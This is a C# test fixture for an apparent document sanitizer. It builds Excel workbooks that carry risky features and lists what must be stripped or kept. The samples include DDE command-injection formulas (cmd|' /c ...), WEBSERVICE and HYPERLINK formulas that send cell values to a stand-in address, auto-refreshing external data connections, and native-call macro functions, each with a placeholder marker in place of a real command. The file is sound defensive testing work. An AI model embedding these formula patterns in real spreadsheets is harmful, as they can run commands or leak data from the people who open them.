using System.Security;
using Airlock.Sanitizers.Contract;
using static Airlock.Tests.Samples.Making.Carriers.CarrierPackage;
using static Airlock.Tests.Samples.Making.SamplePackage;

namespace Airlock.Tests.Samples.Making.Carriers;

/// <summary>Rows OX-130 to OX-151: workbooks.</summary>
internal static class SheetCarriers
{
    public static IEnumerable<CarrierSample> All()
    {
        yield return new("OX-130", "xlsx/ox-130-dde.xlsx", Formulas("OX-130", "cmd|' /c M'!A0", "'cmd'|'/c M'!A0", "MSEXCEL|'\\..\\M'!A0", "1+cmd|'M'!A0")
            is var dde
            ? dde.Part("xl/externalLinks/externalLink1.xml", SheetType + "externalLink+xml", $"<externalLink {SheetNames}>"
                + $"<ddeLink ddeService=\"cmd\" ddeTopic=\"{Mark("OX-130")}\"/></externalLink>")
                .Link(Book, "rId2", Rel + "externalLink", "xl/externalLinks/externalLink1.xml").Bytes() : [])
        {
            Action = FindingAction.Flattened,
            Gone = ["CDR-TEST", "cmd", "ddeLink"],
            Kept = [Stays]
        };
        yield return new("OX-131", "xlsx/ox-131-ole-link.xlsx", ReferenceCarriers.External("OX-131", "<oleLink r:id=\"rId1\" progId=\"Word.Document\"/>")
            .External("xl/externalLinks/externalLink1.xml", "rId1", Rel + "oleObject", "file:///c:/" + Mark("OX-131")).Bytes())
        {
            Gone = ["CDR-TEST",
            "oleLink"],
            Kept = [Stays]
        };
        yield return new("OX-132", "xlsx/ox-132-other-workbook.xlsx", Formulas("OX-132", "[1]Other!A1", "'[1]他'!A1", "'C:\\M\\[x.xlsx]S'!A1", "SUM([2]!name)",
            "'https://host.invalid/M/[x.xlsx]S'!A1").Bytes())
        {
            Action = FindingAction.Flattened,
            Gone = ["CDR-TEST", "Other", "host.invalid"],
            Kept = [Stays]
        };
        yield return new("OX-133", "xlsx/ox-133-network.xlsx", Formulas("OX-133", "WEBSERVICE(\"http://192.0.2.1/M\")", "_xlfn.WEBSERVICE(\"M\")",
            "_xlfn.FILTERXML(\"M\",\"x\")", "_xlfn.IMAGE(\"http://192.0.2.1/M\")", "RTD(\"M\",,\"x\")",
            "CUBEVALUE(\"M\",\"x\")", "_xlfn.STOCKHISTORY(\"M\",1)", "_xlfn.IMPORTTEXT(\"M\")", "SQL.REQUEST(\"M\")", "HYPERLINK(\"file:///M\",\"x\")",
                "HYPERLINK(\"http://192.0.2.1/\"&A9,\"M\")", "IF(1,web service(\"M\"))").Bytes())
        { Action = FindingAction.Flattened, Gone = ["CDR-TEST", "WEBSERVICE", "192.0.2.1"], Kept = [Stays] };
        yield return new("OX-134", "xlsx/ox-134-native-calls.xlsx", Formulas("OX-134", "CALL(\"M\",\"x\",\"J\")", "REGISTER(\"M\")",
            "REGISTER.ID(\"M\",\"x\")", "EXEC(\"M\")", "RUN(\"M\")", "EVALUATE(\"M\")", "GET.WORKSPACE(1)&\"M\"").Bytes())
        {
            Action = FindingAction.Flattened,
            Kept = [Stays]
        };
        yield return new("OX-135", "xlsx/ox-135-connections.xlsx", Workbook().Part("xl/connections.xml", SheetType + "connections+xml",
            $"<connections {SheetNames}><connection id=\"1\" name=\"c\" type=\"1\" refreshOnLoad=\"1\" savePassword=\"1\">"
            + $"<dbPr connection=\"DSN=x;PWD={Mark("OX-135")}\" command=\"SELECT\"/><webPr url=\"http://192.0.2.1/{Mark("OX-135")}\"/>"
                + $"<textPr sourceFile=\"\\\\192.0.2.1\\x\"/></connection></connections>").Link(Book, "rId2", Rel + "connections", "xl/connections.xml")
                .Bytes())
        { Kept = [Stays] };
        yield return new("OX-136", "xlsx/ox-136-query-table.xlsx", Workbook(rest: "<tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>")
            .Part("xl/tables/table1.xml", SheetType + "table+xml",
                $"<table {SheetNames} id=\"1\" name=\"表\" displayName=\"表\" ref=\"A1:A2\" tableType=\"queryTable\"><tableColumns count=\"1\">"
                + $"<tableColumn id=\"1\" name=\"列\" queryTableFieldId=\"1\"/></tableColumns></table>")
            .Part("xl/queryTables/queryTable1.xml", SheetType + "queryTable+xml",
                $"<queryTable {SheetNames} name=\"{Mark("OX-136")}\" refreshOnLoad=\"1\" connectionId=\"1\"/>")
            .Link(Sheet, "rId1", Rel + "table", "xl/tables/table1.xml").Link("xl/tables/table1.xml", "rId1", Rel + "queryTable",
                "xl/queryTables/queryTable1.xml").Bytes())
        { Gone = ["CDR-TEST", "queryTable"], Kept = [Stays, "tableColumn"] };
        yield return new("OX-137", "xlsx/ox-137-power-query.xlsx", Workbook().Part("customXml/item1.xml", "application/xml",
            $"<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">{Mark("OX-137")}</DataMashup>").Link(Book, "rId2", Rel + "customXml",
            "customXml/item1.xml").Bytes())
        { Kept = [Stays] };
        yield return new("OX-138", "xlsx/ox-138-outside-pivot.xlsx", Pivot("<cacheSource type=\"external\" connectionId=\"1\"/>", "refreshOnLoad=\"1\"")
            .Bytes())
        { Gone = ["CDR-TEST", "pivot"], Kept = [Stays] };
        yield return new("OX-138", "xlsx/ox-138-pivot-refresh.xlsx",
            Pivot("<cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:A2\" sheet=\"Sheet1\"/></cacheSource>", "refreshOnLoad=\"1\"").Bytes())
        { Gone = ["refreshOnLoad"], Kept = [Stays, "pivotTableDefinition"] };
        yield return new("OX-139", "xlsx/ox-139-data-model.xlsx", Workbook().Part("xl/model/item.data",
            "application/vnd.openxmlformats-officedocument.model+data", Mark("OX-139")).Link(Book, "rId2", Rel + "powerPivotData", "xl/model/item.data")
            .Bytes())
        { Kept = [Stays] };
        yield return new("OX-140", "xlsx/ox-140-topics.xlsx", Workbook().Part("xl/volatileDependencies.xml", SheetType + "volatileDependencies+xml",
            $"<volTypes {SheetNames}><volType type=\"realTimeData\"><main first=\"{Mark("OX-140")}\"/></volType></volTypes>")
            .Link(Book, "rId2", Rel + "volatileDependencies", "xl/volatileDependencies.xml").Bytes())
        { Kept = [Stays] };
        yield return new("OX-141", "xlsx/ox-141-xml-maps.xlsx", Workbook(rest: "<tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>")
            .Part("xl/tables/table1.xml", SheetType + "table+xml", $"<table {SheetNames} id=\"1\" name=\"表\" displayName=\"表\" ref=\"A1:A2\">"
                + $"<tableColumns count=\"1\"><tableColumn id=\"1\" name=\"列\"><xmlColumnPr mapId=\"1\" xpath=\"/{Mark("OX-141")}\" xmlDataType=\"string\"/>"
                + $"</tableColumn></tableColumns></table>")
            .Part("xl/xmlMaps.xml", "application/xml", $"<MapInfo {SheetNames}><Map ID=\"1\">"
                + $"<DataBinding FileBinding=\"true\" ConnectionID=\"1\" DataBindingLoadMode=\"1\">{Mark("OX-141")}</DataBinding></Map></MapInfo>")
            .Link(Sheet, "rId1", Rel + "table", "xl/tables/table1.xml").Link(Book, "rId2", Rel + "xmlMaps", "xl/xmlMaps.xml").Bytes())
        {
            Kept = [Stays,
                "tableColumn"]
        };
        yield return new("OX-142", "xlsx/ox-142-hidden-sheet.xlsx", TakeOutCarriers.HiddenSheet().Bytes())
        {
            Verdict = Verdict.Unchanged,
            Action = FindingAction.Reported,
            Gone = [],
            Kept = [Stays, "秘密"]
        };
        yield return new("OX-144", "xlsx/ox-144-history.xlsx", Workbook().Part("xl/revisions/revisionHeaders.xml", SheetType + "revisionHeaders+xml",
            $"<headers {SheetNames} guid=\"x\"><header userName=\"{Mark("OX-144")}\"/></headers>")
            .Part("xl/revisions/userNames.xml", SheetType + "userNames+xml", $"<users {SheetNames}><userInfo name=\"{Mark("OX-144")}\"/></users>")
            .Link(Book, "rId2", Rel + "revisionHeaders", "xl/revisions/revisionHeaders.xml").Link(Book, "rId3", Rel + "usernames",
                "xl/revisions/userNames.xml").Bytes())
        { Kept = [Stays] };
        yield return new("OX-145", "xlsx/ox-145-formulas-elsewhere.xlsx", Workbook(rest: $"<conditionalFormatting sqref=\"A1\">"
            + $"<cfRule type=\"expression\" priority=\"1\"><formula>WEBSERVICE(\"{Mark("OX-145")}\")</formula></cfRule></conditionalFormatting>"
                + $"<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>[1]{Mark("OX-145")}!A1</formula1></dataValidation>"
                    + $"</dataValidations>"
                + $"<extLst><ext uri=\"{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}\"><x14:sparklineGroups xmlns:xm=\"{Office}excel/2006/main\">"
                    + $"<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]{Mark("OX-145")}!A1</xm:f><xm:sqref>A1</xm:sqref></x14:sparkline>"
                    + $"</x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>",
                book: $"<definedNames><definedName name=\"n\">cmd|'{Mark("OX-145")}'!A0</definedName></definedNames>").Bytes())
        { Action = FindingAction.Flattened, Kept = [Stays] };
        yield return new("OX-146", "xlsx/ox-146-chart-data.xlsx", Workbook(rest: "<drawing r:id=\"rId1\"/>").Part("xl/drawings/drawing1.xml", DrawingType,
            $"<xdr:wsDr {SheetNames}><xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"9\" cy=\"9\"/><xdr:graphicFrame macro=\"\">"
                + "<xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"c\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/chart\">"
                + "<c:chart xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" r:id=\"rId1\"/></a:graphicData></a:graphic>"
                    + "</xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>")
            .Part("xl/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
                $"<c:chartSpace {Names} xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart><c:plotArea><c:barChart><c:ser><c:val>"
                + $"<c:numRef>"
                + $"<c:f>[1]{Mark("OX-146")}!A1</c:f><c:numCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val>"
                    + $"</c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id=\"rId1\"><c:autoUpdate val=\"1\"/></c:externalData></c:chartSpace>")
            .Link(Sheet, "rId1", Rel + "drawing", "xl/drawings/drawing1.xml").Link("xl/drawings/drawing1.xml", "rId1", Rel + "chart", "xl/charts/chart1.xml")
            .External("xl/charts/chart1.xml", "rId1", Rel + "oleObject", "file:///\\\\192.0.2.1\\" + Mark("OX-146")).Bytes())
        { Action = FindingAction.Flattened, Gone = ["CDR-TEST", "externalData"], Kept = [Stays, "<c:v>5</c:v>"] };
        yield return new("OX-147", "xlsx/ox-147-path.xlsx", Workbook(before: $"<mc:AlternateContent><mc:Choice Requires=\"x15\">"
            + $"<x15ac:absPath url=\"C:\\Users\\{Mark("OX-147")}\\\" xmlns:x15ac=\"{Office}spreadsheetml/2010/11/ac\"/></mc:Choice></mc:AlternateContent>")
            .Bytes())
        { Gone = ["CDR-TEST", "absPath"], Kept = [Stays] };
        yield return new("OX-148", "xlsx/ox-148-calculation-chain.xlsx", Workbook(Cell("SUM(1)")).Part("xl/calcChain.xml", SheetType + "calcChain+xml",
            $"<calcChain {SheetNames}><c r=\"A1\" i=\"1\"/></calcChain>").Link(Book, "rId2", Rel + "calcChain", "xl/calcChain.xml").Bytes())
        { Verdict = Verdict.Unchanged, Action = FindingAction.Rebuilt, Gone = ["calcChain"], Kept = [Stays, "SUM(1)"] };
        yield return new("OX-149", "xlsx/ox-149-sheet-extras.xlsx", Workbook(rest: $"<customProperties><customPr name=\"{Mark("OX-149")}\" r:id=\"rId1\"/>"
            + $"</customProperties><cellWatches><cellWatch r=\"A1\"/></cellWatches><smartTags><cellSmartTags r=\"A1\"><cellSmartTag type=\"0\"/>"
            + $"</cellSmartTags></smartTags>")
            .Part("xl/customProperty1.bin", SheetType + "customProperty", Mark("OX-149")).Link(Sheet, "rId1", Rel + "customProperty",
                "xl/customProperty1.bin").Bytes())
        { Gone = ["CDR-TEST", "cellWatch", "smartTag"], Kept = [Stays] };
        yield return new("OX-150", "xlsx/ox-150-linked-types.xlsx", Workbook().Part("xl/metadata.xml", SheetType + "sheetMetadata+xml",
            $"<metadata {SheetNames}><metadataTypes count=\"1\"><metadataType name=\"XLRICHVALUE\"/></metadataTypes></metadata>")
            .Part("xl/richData/rdrichvalue.xml", "application/vnd.ms-excel.rdrichvalue+xml", $"<rvData>{Mark("OX-150")}</rvData>")
            .Link(Book, "rId2", Rel + "sheetMetadata", "xl/metadata.xml").Link(Book, "rId3", Office + "2017/06/relationships/rdRichValue",
                "xl/richData/rdrichvalue.xml").Bytes())
        { Gone = ["CDR-TEST", "metadataType"], Kept = [Stays] };
        yield return new("OX-151", "xlsx/ox-151-add-in-functions.xlsx", Formulas("OX-151", "_xll.MYFUNC(\"M\")", "_xludf.MYFUNC(\"M\")",
            "MyMacroFunction(\"M\")", "'[1]book.xla'!f(\"M\")").Bytes())
        { Action = FindingAction.Flattened, Kept = [Stays] };
    }

    /// <summary>A cell for each formula; M stands for the marker.</summary>
    private static SamplePackage Formulas(string row, params string[] formulas) =>
        Workbook(string.Concat(formulas.Select((formula, index) => Cell(SecurityElement.Escape(formula.Replace("M", Mark(row),
            StringComparison.Ordinal).Replace("CO" + Mark(row), "COM", StringComparison.Ordinal)), $"{(char)('A' + index)}1"))));

    public static SamplePackage Pivot(string source, string attributes = "") => Workbook(book: "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId2\"/>"
        + "</pivotCaches>")
        .Part("xl/pivotCache/pivotCacheDefinition1.xml", SheetType + "pivotCacheDefinition+xml",
            $"<pivotCacheDefinition {SheetNames} r:id=\"rId1\" {attributes}>{source}<cacheFields count=\"0\"/></pivotCacheDefinition>")
        .Part("xl/pivotCache/pivotCacheRecords1.xml", SheetType + "pivotCacheRecords+xml", $"<pivotCacheRecords {SheetNames} count=\"1\"><r>"
            + $"<s v=\"{(source.Contains("external", StringComparison.Ordinal) ? Mark("OX-138") : "行の値")}\"/></r></pivotCacheRecords>")
        .Part("xl/pivotTables/pivotTable1.xml", SheetType + "pivotTable+xml",
            $"<pivotTableDefinition {SheetNames} name=\"p\" cacheId=\"1\" dataCaption=\"x\">"
            + $"<location ref=\"A1\" firstHeaderRow=\"0\" firstDataRow=\"0\" firstDataCol=\"0\"/></pivotTableDefinition>")
        .Link(Book, "rId2", Rel + "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml").Link("xl/pivotCache/pivotCacheDefinition1.xml", "rId1",
            Rel + "pivotCacheRecords", "xl/pivotCache/pivotCacheRecords1.xml")
        .Link(Sheet, "rId9", Rel + "pivotTable", "xl/pivotTables/pivotTable1.xml").Link("xl/pivotTables/pivotTable1.xml", "rId1", Rel
            + "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml");
}
